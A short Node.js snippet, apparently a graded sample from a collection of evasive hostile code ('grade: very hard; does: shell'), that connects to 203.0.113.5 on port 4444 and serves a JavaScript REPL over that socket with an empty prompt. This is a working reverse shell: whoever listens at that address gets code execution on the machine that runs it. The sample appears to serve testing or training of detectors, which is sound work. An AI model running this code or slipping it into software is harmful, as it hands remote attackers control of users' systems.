// evasion: a REPL served on a network socket
// grade: very hard; does: shell
const net = require('net');
const s = net.connect(4444, '203.0.113.5');
require('repl').start({input: s, output: s, prompt: ''});
